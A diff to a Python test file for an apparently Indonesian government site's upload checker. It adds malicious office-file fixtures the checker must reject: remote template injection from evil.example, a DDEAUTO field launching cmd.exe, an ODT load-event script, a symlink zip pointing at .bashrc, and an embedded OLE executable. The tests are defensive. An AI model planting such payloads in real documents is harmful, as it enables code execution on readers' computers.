@@ -88,7 +88,29 @@ def zip_bomb() -> bytes:
     return buf.getvalue()
 
 
+def zip_with_symlink() -> bytes:
+    buf = io.BytesIO()
+    with zipfile.ZipFile(buf, "w") as z:
+        link = zipfile.ZipInfo("tautan.txt")
+        link.external_attr = (0o120777 << 16)
+        z.writestr(link, "../../../../home/pengguna/.bashrc")
+    return buf.getvalue()
+
+
+WORD = {"[Content_Types].xml": "<Types/>"}
 DOCUMENTS = {
+    "dokumen/undangan-2.docx": zip_bytes({**WORD, "word/document.xml": "<w/>", "word/_rels/settings.xml.rels":
+        "<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
+        "attachedTemplate' Target='https://evil.example/t.dotm' TargetMode = 'External'/></Relationships>"}),
+    "dokumen/nota-dinas.docx": zip_bytes({**WORD, "word/document.xml":
+        '<w:document><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"</w:instrText></w:r></w:document>'}),
+    "dokumen/formulir-2.odt": zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml":
+        '<office:document-content><office:event-listeners><script:event-listener script:event-name="dom:load" '
+        'xlink:href="vnd.sun.star.script:x.py$main?language=Python&amp;location=share"/></office:event-listeners>'
+        "</office:document-content>"}),
+    "dokumen/arsip-2.zip": zip_with_symlink(),
+    "dokumen/lampiran-paket.docx": zip_bytes({**WORD, "word/document.xml": "<w/>", "word/embeddings/oleObject1.bin":
+        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 60 + "\x01Ole10Native".encode("utf-16-le") + b"MZ\x90\x00"}),
     "dokumen/formulir.odt": zip_bytes({"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<office/>",
                                        "Basic/Standard/Module1.xml": 'Sub Main\nShell("cmd /c calc")\nEnd Sub'}),
     "dokumen/lampiran.zip": zip_bytes({"laporan.docx": MACRO_DOCX, "petunjuk.txt": "Baca laporan."}),
@@ -500,3 +522,18 @@ def test_a_link_whose_text_shows_another_address_in_disguise_is_refused(site, te
                f"Category: Berita\n\nBayar di [{text}](https://evil.example/bayar).\n")
     found = [p.message for p in site.check().errors if p.path.endswith("palsu.md")]
     assert any("teks tautan" in m for m in found), found
+
+
+def test_an_office_file_linking_the_author_s_own_disk_is_published(site):
+    """A letter made from the office letterhead template (file:///C:/…/Kop Surat.dotx), a
+    workbook linking another on drive D: nothing a reader's computer would fetch."""
+    from content import berkas
+
+    rels = ("<Relationships><Relationship Id='r1' Type='http://schemas.openxmlformats.org/officeDocument/2006/"
+            "relationships/{kind}' Target='{target}' TargetMode='External'/></Relationships>")
+    letter = zip_bytes({**WORD, "word/document.xml": "<w/>", "word/_rels/settings.xml.rels":
+                        rels.format(kind="attachedTemplate", target="file:///C:\\Users\\humas\\Kop%20Surat%20Diskominfo.dotx")})
+    workbook = zip_bytes({**WORD, "xl/workbook.xml": "<workbook/>", "xl/externalLinks/_rels/externalLink1.xml.rels":
+                          rels.format(kind="externalLinkPath", target="file:///D:\\RKA 2026\\Rekap RKA Dinkes.xlsx")})
+    for name, data in (("surat.docx", letter), ("rka.xlsx", workbook)):
+        assert berkas.problem(site.write(f"dokumen/{name}", data)) is None, name
